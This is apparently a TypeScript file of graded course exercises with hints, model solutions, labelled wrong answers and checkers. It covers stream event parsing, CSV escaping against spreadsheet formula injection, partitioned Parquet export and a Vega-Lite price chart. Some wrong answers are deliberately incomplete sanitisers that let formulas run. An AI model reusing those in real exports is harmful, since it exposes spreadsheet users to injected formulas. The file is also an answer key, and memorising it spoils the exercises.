      newPrices: (
        body: ReadableStream<Uint8Array>,
      ) => Promise<{ version: number; coin_id: string; price_usd: number }[]>,
      ground: Ground,
    ) => {
      const given = await streams(ground);
      const outcomes = [];
      for (const { stream, body } of given) {
        const rows = await newPrices(body);
        if (isTodo(rows)) return rows;
        outcomes.push(...rows.map(row => ({ stream, ...row })));
      }
      return outcomes;
    },
    hints: [
      'Bytes become text, text becomes events, events become rows. The first two steps are `eventsIn`, two cells above.',
      'Look at `event.event` first: only "gold" is for you. Then `JSON.parse(event.data)` has `version` and `rows`; not every event tells of `latest`.',
      '`for (const { coin_id, price_usd } of rows.latest ?? []) found.push({ version, coin_id, price_usd })`',
    ],
    solution: {
      cell: `
const newPrices = async (body: ReadableStream<Uint8Array>): Promise<NewPrice[]> => {
  const found: NewPrice[] = []
  for await (const { event, data } of eventsIn(body)) {
    if (event !== 'gold') continue
    const { version, rows } = JSON.parse(data) as News
    for (const { coin_id, price_usd } of rows.latest ?? [])
      found.push({ version, coin_id, price_usd })
  }
  return found
}`,
      why: 'The parser keeps what is not yet whole until the rest has come, passes over comments, and gives one event at a time. What is left for you is to choose and to name.',
    },
    wrong: [
      {
        cell: `
const newPrices = async (body: ReadableStream<Uint8Array>): Promise<NewPrice[]> => {
  const found: NewPrice[] = []
  for await (const part of body)
    for (const [, data] of Buffer.from(part).toString().matchAll(/^event: gold\\nid: .*\\ndata: (.*)$/gm)) {
      const { version, rows } = JSON.parse(data!.endsWith('}') && data!.startsWith('{"v') ? data! : '{"rows":{}}') as News
      for (const { coin_id, price_usd } of rows.latest ?? []) found.push({ version, coin_id, price_usd })
    }
  return found
}`,
        says: 'You take each part that arrives for whole events. Where a part ends is chance: keep the rest until more has come, or let the parser do it.',
        when: (outcome, wanted) =>
          asRows(outcome).length < asRows(wanted).length &&
          asRows(outcome).filter(({ stream }) => stream === 'in one part').length ===
            asRows(wanted).filter(({ stream }) => stream === 'in one part').length,
      },
      {
        cell: `
const newPrices = async (body: ReadableStream<Uint8Array>): Promise<NewPrice[]> => {
  let last: NewPrice[] = []
  for await (const { event, data } of eventsIn(body)) {
    if (event !== 'gold') continue
    const { version, rows } = JSON.parse(data) as News
    last = (rows.latest ?? []).map(({ coin_id, price_usd }) => ({ version, coin_id, price_usd }))
  }
  return last
}`,
        says: 'Only the rows of the last event are left. Collect those of all.',
      },
      {
        cell: `
const newPrices = async (body: ReadableStream<Uint8Array>): Promise<NewPrice[]> => {
  const found = new Map<string, NewPrice>()
  for await (const { event, data } of eventsIn(body)) {
    if (event !== 'gold') continue
    const { version, rows } = JSON.parse(data) as News
    for (const { coin_id, price_usd } of rows.latest ?? [])
      found.set(coin_id, { version, coin_id, price_usd })
  }
  return [...found.values()]
}`,
        says: 'You keep the newest price of each coin. Asked is every price that came, also the one that was replaced later.',
      },
    ],
    right:
      'It holds however the bytes are cut. Try it on the real stream: `const real = await fetch(api + "/stream", { signal: AbortSignal.timeout(3000) })`, then `await newPrices(real.body!)`. Without the signal it never returns while the server lives; with it, what happens to the rows?',
  },
  {
    id: '7.6',
    title: 'A cell that no spreadsheet runs',
    level: 'intermediate',
    form: 'function',
    answer: 'cell',
    compare: { key: ['value'] },
    outcome: (cell: (value: string | number | null) => unknown) =>
      values.map(value => ({ value: JSON.stringify(value), read_back: readBack(cell, value) })),
    hints: [
      'Two jobs, one after the other: first make a text harmless, then write whatever there is as CSV.',
      "Harmless: only a text (`typeof value === 'string'`) that begins with one of the signs gets an apostrophe. `/^[=+\\-@\\t\\r]/.test(value)` tells.",
      "CSV: if there is a comma, a quote or a line end in it, put quotes around, and double the quotes inside: `text.replaceAll('\"', '\"\"')`.",
    ],
    solution: {
      cell: `
const cell = (value: string | number | null): string => {
  const text = String(value ?? '')
  const safe = typeof value === 'string' && /^[=+\\-@\\t\\r]/.test(text) ? \`'\${text}\` : text
  return /[",\\r\\n]/.test(safe) ? \`"\${safe.replaceAll('"', '""')}"\` : safe
}`,
      why: 'The apostrophe makes a text of what a spreadsheet would compute. The quotes are for the reader of CSV and go away when it reads; both are needed.',
    },
    wrong: [
      {
        cell: `
const cell = (value: string | number | null): string =>
  \`"\${String(value ?? '').replaceAll('"', '""')}"\``,
        says: 'The CSV is right, and the formulas still run: quotes are taken off when the file is read, and what is left begins with "=".',
      },
      {
        cell: `
const cell = (value: string | number | null): string => {
  const text = String(value ?? '')
  const safe = /^[=+\\-@\\t\\r]/.test(text) ? \`'\${text}\` : text
  return /[",\\r\\n]/.test(safe) ? \`"\${safe.replaceAll('"', '""')}"\` : safe
}`,
        says: 'A negative number has become a text: -1.5 is no formula, and a column of such texts has no sum. Spare the numbers.',
      },
      {
        cell: `
const cell = (value: string | number | null): string => {
  const text = String(value ?? '')
  const safe = typeof value === 'string' && text.startsWith('=') ? \`'\${text}\` : text
  return /[",\\r\\n]/.test(safe) ? \`"\${safe.replaceAll('"', '""')}"\` : safe
}`,
        says: 'Formulas do not only begin with "=": spreadsheets compute after "+", "-" and "@" too, and some pass over a tab.',
      },
      {
        cell: `
const cell = (value: string | number | null): string => {
  const text = String(value ?? '')
  const safe = typeof value === 'string' && /^[=+\\-@\\t\\r]/.test(text) ? \`'\${text}\` : text
  return /[",\\r\\n]/.test(safe) ? \`"\${safe}"\` : safe
}`,
        says: 'A quote inside of quotes ends the field. Double it.',
      },
    ],
    right:
      'Harmless, and every reader of CSV gets it back whole. The price of the apostrophe: a program that reads your file finds it in the text. So for programs export Parquet, and CSV for people.',
  },
  {
    id: '7.7',
    title: 'A folder for each day, and nothing missing',
    level: 'advanced',
    form: 'state',
    answer: 'byDay',
    scope: { exportTables, folder },
    outcome: (_: never, ground: Ground) => exportFound(ground),
    wanted: async ({ lake }: Ground) => {
      const [held] = await lake.rows<object>(`select ${contents} from ${exported}`);
      return { format: 'parquet', partitioned_by: 'partition_date', ...held };
    },
    hints: [
      'It is the call of the cell above with another table, the format left out (Parquet), and one thing more.',
      "`partitionBy: ['partition_date']` makes a folder for each value of that column.",
      "`await exportTables(lake, [{ table: 'silver.market_prices', partitionBy: ['partition_date'], to: folder }])`",
    ],
    solution: {
      cell: `
const byDay = await exportTables(lake, [
  { table: 'silver.market_prices', partitionBy: ['partition_date'], to: folder }])`,
      why: 'One snapshot goes out as a whole: beside it, and into its place at the end. The label says how many rows there must be, and your own count and sum prove it.',
    },
    wrong: [
      {
        cell: `
const byDay = await exportTables(lake, [{ table: 'silver.market_prices', to: folder }])`,
        says: 'It is whole, and in one file. Whoever wants one day must open all of it: partition it by the day.',
        when: outcome => found(outcome).format === 'parquet' && found(outcome).partitioned_by === 'nothing',
      },
      {
        cell: `
const byDay = await exportTables(lake, [
  { table: 'silver.market_prices', partitionBy: ['id'], to: folder }])`,
        says: 'There is a folder for each coin. A folder for each day was asked.',
        when: outcome => found(outcome).partitioned_by === 'id',
      },
      {
        cell: `
const byDay = await exportTables(lake, [
  { table: 'silver.market_prices', format: 'csv', partitionBy: ['partition_date'], to: folder }])`,
        says: 'These are CSV files, which forget the types of their columns. Export Parquet.',
        when: outcome => found(outcome).format === 'csv',
      },
    ],
    right:
      'Every day in a folder of its own, count and sum those of the lake. Read one day of it and look at how many files are opened: only that folder. If more prices land now, this check says so, until you export again.',
  },
  {
    id: '7.8',
    title: 'A chart of your own',
    level: 'intermediate',
    form: 'function',
    answer: 'moves',
    compare: { key: ['given', 'coin', 'hour'], tolerance: 1e-6 },
    outcome: async (moves: (candles: Candle[]) => object, ground: Ground) => {
      const outcome: object[] = [];
      for (const { given, candles } of await candleLists(ground)) {
        const spec = await moves(structuredClone(candles));
        if (isTodo(spec)) return spec;
        const lines = await drawnBy(spec, candles);
        if (lines.length === 0)
          throw new Misfit(
            `For ${given}: no line is drawn. Are there rows in "data", is the mark "line", and do its fields have values?`,
            spec,
          );
        if (lines.some(({ points }) => points.some(({ coin }) => !coin)))
          throw new Misfit(
            'Nothing in the chart tells which coin a line is. Give `color` the field of the coin.',
            spec,
          );
        const colours = new Set(lines.map(({ colour }) => colour)).size;
        for (const { points, axis_of_hours, axis_of_change, forward_in_time } of lines)
          for (const point of points)
            outcome.push({
              given,
              ...point,
              axis_of_hours,
              axis_of_change,
              lines: lines.length,
              colours,
              forward_in_time,
            });
      }
      return outcome;
    },
    hints: [
      'Two jobs, one after the other: first rows with the coin, the hour and the change; then a spec with these rows in `data.values`, a `mark` and an `encoding`.',
      'The first hour of a coin: sort a copy of the candles by hour, then `find` the first row of that coin. The change is `100 * (close / first - 1)`, as in step 5.',
      "`mark: 'line'`, and in `encoding`: `x: { field: 'hour', type: 'temporal' }`, `y: { field: 'change_pct', type: 'quantitative' }`, and `color` with the field `coin_id`, type `nominal`.",
    ],
    solution: {
      cell: `
const moves = (candles: Candle[]): object => {
  const sorted = candles.toSorted((a, b) => Date.parse(a.hour) - Date.parse(b.hour))
  const firstOf = (coin: string) => sorted.find(row => row.coin_id === coin)!.close_price_usd
  const values = sorted.map(({ coin_id, hour, close_price_usd }) =>
    ({ coin_id, hour, change_pct: 100 * (close_price_usd / firstOf(coin_id) - 1) }))
  const encoding = {
    x: { field: 'hour', type: 'temporal' },
    y: { field: 'change_pct', type: 'quantitative', title: 'change (%)' },
    color: { field: 'coin_id', type: 'nominal' }
  }
  return { data: { values }, mark: 'line', encoding }
}`,
      why: 'The change makes coins comparable whose prices differ by five orders of magnitude. The types say what the values are: `temporal` gives an axis of time with room for a gap, `quantitative` one of numbers, and `nominal` a colour for each name. `color` also tells which points belong to one line.',
    },
    wrong: [
      {
        cell: movesCell({ encoding: { x: { field: 'hour' } } }),
        says: 'The hours are categories: names in a row, one step each, and an hour that is missing leaves no gap. Say that `x` is `temporal`; a field without a type is taken as names.',
        when: outcome => asRows(outcome).some(({ axis_of_hours }) => axis_of_hours === 'categories'),
      },
      {
        cell: movesCell({
          encoding: { x: { field: 'change_pct', type: 'quantitative' }, y: { field: 'hour', type: 'temporal' } },
        }),
        says: 'The axes are exchanged: the hour goes along `x`, and the change upwards along `y`.',
        when: outcome => asRows(outcome).some(({ axis_of_change }) => String(axis_of_change).startsWith('time')),
      },
      {
        cell: movesCell({ encoding: { y: { field: 'change_pct' } } }),
        says: 'The changes are categories: each has a step of its own, whether it is large or small. Say that `y` is `quantitative`.',
        when: outcome => asRows(outcome).some(({ axis_of_change }) => String(axis_of_change).startsWith('categories')),
      },
      {
        cell: movesCell({ hour: 'Date.parse(hour)', encoding: { x: { field: 'hour', type: 'quantitative' } } }),
        says: 'The axis of hours counts in plain numbers, which nobody reads as times. Say that `x` is `temporal`, and give it the whole time.',
        when: outcome => asRows(outcome).some(({ axis_of_hours }) => axis_of_hours === 'numbers'),
      },
      {
        cell: movesCell({ encoding: { color: undefined } }),
        says: 'One line runs through several coins, and jumps from one to the other in each hour. Give `color` the field of the coin: that makes a line for each.',
        when: outcome => linesBelowCoins(asRows(outcome)),
      },
      {
        cell: movesCell({ encoding: { color: undefined, detail: { field: 'coin_id', type: 'nominal' } } }),
        says: 'There is a line for each coin, and not a colour for each: nobody sees which is which. Give `color` the field of the coin; `detail` parts the lines and leaves them alike.',
        when: outcome => asRows(outcome).some(({ lines, colours }) => Number(colours) < Number(lines)),
      },
      {
        cell: movesCell({ first: '', change: 'close_price_usd' }),
        says: 'These are the prices themselves. Bitcoin needs the whole height, and beside it the others lie flat. Draw the change in % since the first hour of each coin.',
      },
      {
        cell: movesCell({ first: byTime.replace('close', 'open'), price: 'open_price_usd' }),
        says: 'You count with `open_price_usd`, with which an hour begins. The price at its end is `close_price_usd`.',
      },
      {
        cell: movesCell({ first: byTime.replace('sorted.find', 'candles.find') }),
        says: "You measure from the coin's first row in the list, and the order of the list says nothing. Its first hour is the earliest.",
      },
      {
        cell: movesCell({ change: 'close_price_usd / firstOf(coin_id) - 1' }),
        says: 'The lines have the right form, and the axis the wrong numbers: 0.01 stands where 1 % should be. Times 100.',
      },
      {
        cell: movesCell({ change: '100 * (close_price_usd / sorted[0].close_price_usd - 1)' }),
        says: 'One coin alone comes out right; with several, not every line begins at 0. Measure each coin from its own first hour, not from that of another.',
        when: measuredFromAnother,
      },
    ],
    right:
      'A line and a colour for each coin, all from 0, and times that are times. Now draw all ten coins: `moves((await askCandles({ from: "2026-03-08", to: "2026-03-09", limit: 1000 })).rows)`. Then change one thing: `mark: { type: "line", point: true }`, a `title` that says what you see, or a `tooltip`.',
  },
];
